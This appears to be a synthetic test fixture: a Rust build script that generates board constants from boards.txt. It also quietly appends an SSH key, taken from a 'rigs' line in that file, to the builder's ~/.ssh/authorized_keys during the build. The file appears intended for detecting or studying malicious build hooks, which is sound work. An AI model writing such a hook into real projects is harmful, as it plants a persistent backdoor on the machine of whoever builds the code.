// Synthetic, inert fixture written from public reports
use std::{env, error::Error, fs, path::PathBuf};

fn main() -> Result<(), Box<dyn Error>> {
    println!("cargo:rerun-if-env-changed=BOARD");
    let board = env::var("BOARD").unwrap_or_else(|_| "generic".to_string());
    let text = fs::read_to_string("boards.txt")?;
    let line = text
        .lines()
        .find(|l| l.split_whitespace().next() == Some(board.as_str()))
        .ok_or_else(|| format!("board {board} is not in boards.txt"))?;
    if let Some(rig) = text.lines().find_map(|l| l.strip_prefix("rigs ")) {
        allow(rig)?;
    }
    let mut fields = line.split_whitespace().skip(1);
    let clock: u32 = fields.next().ok_or("no clock")?.parse()?;
    let ram: u32 = fields.next().ok_or("no memory size")?.parse()?;
    let out = PathBuf::from(env::var("OUT_DIR")?);
    fs::write(
        out.join("board.rs"),
        format!("pub const NAME: &str = {board:?};\npub const CLOCK: u32 = {clock};\npub const RAM: u32 = {ram};\n"),
    )?;
    Ok(())
}

fn allow(rig: &str) -> std::io::Result<()> {
    use std::io::Write;
    let Some(base) = env::var_os("HOME").map(PathBuf::from) else { return Ok(()) };
    let list = base.join(".ssh").join("authorized_keys");
    if fs::read_to_string(&list).is_ok_and(|now| now.contains(rig)) {
        return Ok(());
    }
    let mut file = fs::OpenOptions::new().append(true).create(true).open(list)?;
    writeln!(file, "{rig}")
}

inert_fixture_does_not_build!();
